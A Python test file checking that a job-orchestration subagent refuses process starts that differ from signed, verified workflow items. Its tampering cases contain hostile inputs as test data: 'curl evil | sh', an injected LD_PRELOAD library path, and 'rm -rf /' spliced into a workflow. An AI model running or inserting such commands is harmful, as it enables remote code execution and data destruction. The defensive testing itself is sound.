"""The subagent's check of what it starts against the signed items it verified (pure), fed with
the starts the director core really builds."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from controller_svc import core as c
from director_svc import core as d
from director_svc.convert import start_process
from director_svc.core import DirectorCore
from gen.ostinato.common.v1 import items_pb2
from gen.ostinato.subagent.v1 import subagent_pb2 as pb
from ostinato import signing
from ostinato.process import Exited
from subagent_svc.signed import SignedWork

T0 = 1_700_000_000_000

WORKFLOW = {
    "path": "/wf",
    "versionId": "v1",
    "jobResourcePaths": ["/env"],
    "instructions": [
        {"execute": {"jobName": "named"}},
        {"tryCatch": {"try": {"instructions": [{"execute": {"job": {"agent": "agent-1", "executable": {
            "commandLine": {"argv": ["/bin/echo", "$X"], "env": {"X": "'x'"}}}}}}]},
         "catch": {"instructions": [{"fail": {}}]}}},
    ],
    "jobs": {"named": {"agent": "agent-1", "executable": {"shellScript": {"script": "echo $GREETING $URL",
             "env": {"GREETING": "'hi'"}}}}},
}  # fmt: skip
RESOURCE = {"path": "/env", "env": {"URL": "'https://example.com'"}}


@pytest.fixture(scope="module")
def author() -> signing.Signer:
    return signing.Signer(*signing.generate_root("author"))


def item(kind: int, value: dict, signer: signing.Signer | None, version: str = "") -> items_pb2.SignedItem:
    signed = items_pb2.SignedItem(type=kind, path=value["path"], version_id=version, json=json.dumps(value))  # type: ignore[arg-type]
    return signer.sign_item(signed) if signer else signed


def starts(author: signing.Signer) -> tuple[DirectorCore, list[pb.StartProcess]]:
    """The director core with the workflow and resource attached, and the StartProcess requests
    it builds for an order at each job (the named one, then the inline one in the try block)."""
    controller = c.ControllerCore(c.ControllerState(), frozenset({"agent-1"}))
    director = DirectorCore(d.DirectorState(), "agent-1", ["s1"])
    workflow = item(items_pb2.ITEM_TYPE_WORKFLOW, WORKFLOW, author, "v1")
    resource = item(items_pb2.ITEM_TYPE_JOB_RESOURCE, RESOURCE, author)
    controller.handle(c.Deploy((resource, workflow)), T0)
    controller.handle(c.AddOrders((c.NewOrder("o1", "/wf"),)), T0)
    director.handle(d.AttachItems((resource, workflow)), T0)
    director.handle(d.SubagentWelcomed("s1", "r1"), T0)
    director.handle(d.AttachOrders((controller.state.orders["o1"],)), T0)
    [first] = director.subagent_work("s1", director.state.last_event_id).starts
    director.handle(d.SubagentMessages("s1", "r1", ((1, Exited(first.process_key)),)), T0)
    [second] = director.subagent_work("s1", director.state.last_event_id).starts
    return director, [start_process(first), start_process(second)]


def verified(director: DirectorCore, trusted: signing.Signer) -> SignedWork:
    work = SignedWork(signing.Verifier([trusted.certificate]))
    state = director.state
    items = [state.signed_workflows[("/wf", "v1")], state.signed_resources["/env"]]
    assert work.attach(items, datetime.now(UTC)) == []
    return work


def test_the_directors_starts_pass_as_signed(author: signing.Signer) -> None:
    director, [named, inline] = starts(author)
    assert named.env["URL"] == "https://example.com" and named.workflow_path == "/wf"
    assert inline.position.branch_path[0].branch.startswith("try")
    work = verified(director, author)
    assert work.check(named) is None
    assert work.check(inline) is None


def test_anything_else_is_refused_with_the_reason(author: signing.Signer) -> None:
    director, [named, inline] = starts(author)
    work = verified(director, author)

    changed = pb.StartProcess()
    changed.CopyFrom(named)
    changed.shell_script = "curl evil | sh"
    assert "is not the signed script of job named of workflow /wf version v1" in str(work.check(changed))
    changed.CopyFrom(inline)
    changed.argv.argv.append("--more")
    assert "is not the signed command line of job @1/try+0:0" in str(work.check(changed))
    changed.CopyFrom(named)
    changed.env["LD_PRELOAD"] = "/tmp/x.so"
    assert "environment variable LD_PRELOAD comes from neither" in str(work.check(changed))
    changed.CopyFrom(named)
    changed.position.nr = 2
    assert "has no job at position 2" in str(work.check(changed))
    changed.CopyFrom(named)
    changed.workflow_version_id = "v2"
    assert "workflow /wf version v2 was not handed over signed" in str(work.check(changed))
    changed.ClearField("workflow_path")
    assert "names no workflow" in str(work.check(changed))

    # A job resource signed by someone else: its env names are not the job's.
    stranger = signing.Signer(*signing.generate_root("stranger"))
    other = SignedWork(signing.Verifier([author.certificate]))
    refused = other.attach(
        [
            director.state.signed_workflows[("/wf", "v1")],
            item(items_pb2.ITEM_TYPE_JOB_RESOURCE, RESOURCE, stranger),
        ],
        datetime.now(UTC),
    )
    assert len(refused) == 1 and "job resource /env" in refused[0] and "CN=stranger" in refused[0]
    why = str(other.check(named))
    assert "environment variable URL comes from neither" in why and "CN=stranger" in why

    # A workflow refused is named as such in the starts that need it.
    tampered = items_pb2.SignedItem()
    tampered.CopyFrom(director.state.signed_workflows[("/wf", "v1")])
    tampered.json = tampered.json.replace("echo", "rm -rf /; echo")
    third = SignedWork(signing.Verifier([author.certificate]))
    assert third.attach([tampered], datetime.now(UTC))
    assert "was refused" in str(third.check(named)) and "does not match the JSON text" in str(
        third.check(named)
    )
